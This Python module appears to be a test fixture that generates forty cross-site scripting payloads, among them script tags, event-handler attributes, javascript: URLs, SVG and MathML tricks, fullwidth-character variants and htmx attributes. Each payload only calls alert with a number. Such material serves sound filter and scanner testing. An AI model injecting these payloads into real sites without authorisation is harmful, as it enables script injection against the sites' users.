"""Forty ways to bring a script into a page (XSS-01 to 05); each calls `alert` with its own number when it runs."""

from __future__ import annotations

TEMPLATES = (
    "<script>alert({n})</script>",
    "<ScRiPt>alert({n})</sCrIpT>",
    "<script src=data:text/javascript,alert({n})></script>",
    "</script><script>alert({n})</script>",
    "--><script>alert({n})</script>",
    "]]><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "</option></select><script>alert({n})</script>",
    "</style><script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    '"><img src=x onerror=alert({n})>',
    "'><img src=x onerror=alert({n})>",
    "<img/src=x/onerror=alert({n})//",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert({n})></mtext></math>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<iframe src=javascript:parent.alert({n})></iframe>",
    "<object data=javascript:alert({n})></object>",
    "<embed src=javascript:alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})></audio>",
    "<details open ontoggle=alert({n})>x</details>",
    "<input autofocus onfocus=alert({n})>",
    '" autofocus onfocus=alert({n}) x="',
    "' autofocus onfocus=alert({n}) x='",
    "<a href=javascript:alert({n}) id=go>x</a>",
    "javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "<form action=javascript:alert({n})><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<base href=javascript:alert({n})//>",
    "＜script＞alert({n})＜/script＞",
    "＜img src=x onerror=alert({n})＞",
    "﹤svg onload=alert({n})﹥",
    "<div hx-get=/ hx-on:click=alert({n}) hx-vals='js:alert({n})' hx-trigger=load>x</div>",
    "<div data-hx-on:load=alert({n}) data-hx-vals='js:{{a:alert({n})}}'>x</div>",
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
)


def payload(kind: int, number: int) -> str:
    """Return one of the ways, which calls with this number."""
    return TEMPLATES[kind % len(TEMPLATES)].format(n=number)


def all_of_them(first: int) -> str:
    """Return every way, one after the other, numbered from `first`."""
    return "\n".join(payload(kind, first + kind) for kind in range(len(TEMPLATES)))
